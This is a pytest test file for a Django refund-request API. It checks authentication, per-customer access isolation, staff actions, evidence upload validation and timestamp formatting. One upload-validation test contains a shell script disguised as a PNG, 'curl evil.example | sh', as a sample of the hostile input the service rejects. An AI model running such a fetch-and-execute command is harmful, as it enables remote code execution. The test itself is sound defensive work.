"""API v1: customers see only their own requests; staff act through the same services."""

from __future__ import annotations

import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from refunddesk.core.services import access_token_create
from refunddesk.refunds.models import RefundRequest
from refunddesk.refunds.states import Status
from tests.factories import CustomerFactory, OrderFactory, UserFactory
from tests.refunds.test_workflow import PNG

pytestmark = pytest.mark.django_db


def client_for(user) -> Client:
    _, raw = access_token_create(user=user)
    return Client(headers={"Authorization": f"Bearer {raw}"})


@pytest.fixture
def me(published_policy, customer, order):
    return client_for(customer.user)


def submit(client, order_number="ORD-100", reason="technical_issue", files=None):
    data = {"order_number": order_number, "reason": reason, "description": "It keeps disconnecting"}
    if files:
        data["files"] = files
    return client.post("/api/v1/requests", data=data)


def test_submit_list_show(me):
    r = submit(me, files=[SimpleUploadedFile("screen.png", PNG, content_type="image/png")])
    assert r.status_code == 201, r.content
    body = r.json()
    assert body["status"] == "in_review" and body["decision"]["clause"] == "default"
    assert body["decision"]["policy"] == {"id": "workflow-test", "version": "1"}
    assert "trace" not in body["decision"]  # the trace and facts are for staff
    assert [e["action"] for e in body["timeline"]] == ["submit", "policy_review"]
    assert me.get("/api/v1/requests").json()[0]["id"] == body["id"]
    assert me.get(f"/api/v1/requests/{body['id']}").json()["review_due_at"]


def test_sign_in_gives_a_token(published_policy, customer):
    r = Client().post("/api/v1/auth/token", data=json.dumps({"username": "cust_a", "password": "pw-for-tests"}),
                      content_type="application/json")
    assert r.status_code == 200 and r.json()["customer"] is True
    bad = Client().post("/api/v1/auth/token", data=json.dumps({"username": "cust_a", "password": "nope"}),
                        content_type="application/json")
    assert bad.status_code == 401


def test_a_second_open_request_for_the_order_is_a_409(me):
    assert submit(me).status_code == 201
    r = submit(me)
    assert r.status_code == 409 and "already has an open refund request" in r.json()["error"]["message"]


def test_someone_elses_order_is_a_404(me):
    other = OrderFactory(customer=CustomerFactory(), external_id="ORD-OTHER")
    r = submit(me, order_number=other.external_id)
    assert r.status_code == 404 and r.json()["error"]["field"] == "order_number"


def test_every_customer_endpoint_as_another_customer_is_404(me, agent):
    pid = submit(me).json()["id"]
    intruder = client_for(CustomerFactory(user=UserFactory(username="intruder")).user)
    calls = [
        ("get", f"/api/v1/requests/{pid}", {}),
        ("post", f"/api/v1/requests/{pid}/reply", {"data": {"message": "hi"}}),
        ("post", f"/api/v1/requests/{pid}/offer/accept", {}),
        ("post", f"/api/v1/requests/{pid}/offer/decline", {}),
        ("post", f"/api/v1/requests/{pid}/withdraw", {}),
        ("post", f"/api/v1/requests/{pid}/appeal", {"data": {"reason": "unfair"}}),
    ]
    for method, url, kwargs in calls:
        response = getattr(intruder, method)(url, **kwargs)
        assert response.status_code == 404, (url, response.status_code, response.content)
    assert pid not in json.dumps(intruder.get("/api/v1/requests").json())
    assert RefundRequest.objects.get(public_id=pid).status == Status.IN_REVIEW


def test_customer_endpoints_need_a_token(published_policy):
    assert Client().get("/api/v1/requests").status_code == 401
    assert Client(headers={"Authorization": "Bearer nope"}).post("/api/v1/requests").status_code == 401


def test_staff_endpoints_refuse_customers(me):
    assert me.get("/api/v1/staff/queue").status_code == 403


def test_staff_queue_show_and_act(me, agent, customer):
    pid = submit(me).json()["id"]
    staff = client_for(agent)
    queue = staff.get("/api/v1/staff/queue").json()
    assert [row["id"] for row in queue] == [pid]
    shown = staff.get(f"/api/v1/staff/requests/{pid}").json()
    assert shown["decision"]["trace"] and shown["decision"]["facts"]["order"]["id"] == "ORD-100"
    r = staff.post(f"/api/v1/staff/requests/{pid}/actions",
                   data=json.dumps({"action": "offer", "amount": "15.00", "clause": "default", "message": "Half"}),
                   content_type="application/json")
    assert r.status_code == 200, r.content
    assert r.json()["status"] == "offered" and r.json()["offered"] == {"amount": "15.00", "currency": "CNY"}
    bad = staff.post(f"/api/v1/staff/requests/{pid}/actions",
                     data=json.dumps({"action": "approve", "reason": "x", "clause": "default"}),
                     content_type="application/json")
    assert bad.status_code == 409 and "Offer made" in bad.json()["error"]["message"]
    declined = me.post(f"/api/v1/requests/{pid}/offer/decline", data=json.dumps({"note": "too low"}),
                       content_type="application/json")
    assert declined.json()["status"] == "declined"


def test_bad_evidence_is_refused_and_nothing_is_stored(me, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    script = SimpleUploadedFile("cat.png", b"#!/bin/sh\ncurl evil.example | sh\n", content_type="image/png")
    r = submit(me, files=[script])
    assert r.status_code == 422 and r.json()["error"]["field"] == "files"  # the parameter the client sent
    settings.REFUNDDESK_EVIDENCE_MAX_BYTES = 1000
    big = SimpleUploadedFile("big.png", PNG + b"\0" * 2000, content_type="image/png")
    r = submit(me, files=[big])
    assert r.status_code == 422 and "limit" in r.json()["error"]["message"]
    assert not RefundRequest.objects.exists()
    assert not any(tmp_path.rglob("*.*"))


def test_every_timestamp_of_a_request_has_one_format(me, customer, order, agent):
    """Issue 14.5: the refund's arrival date came as '2026-12-10T23:59:59.999999+08:00' beside
    '...Z' timestamps; now every timestamp is RFC 3339 in UTC."""
    import re

    from refunddesk.refunds import services as s
    from tests.tasks import run_tasks

    rid = submit(me).json()["id"]
    s.refund_request_approve(public_id=rid, user=agent, reason="ok", clause="default")
    run_tasks()
    body = me.get(f"/api/v1/requests/{rid}").json()
    stamps = [body["submitted_at"], body["refund"]["arrival_by"], *(e["at"] for e in body["timeline"])]
    utc = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{3})?Z$")
    assert all(utc.match(stamp) for stamp in stamps), stamps
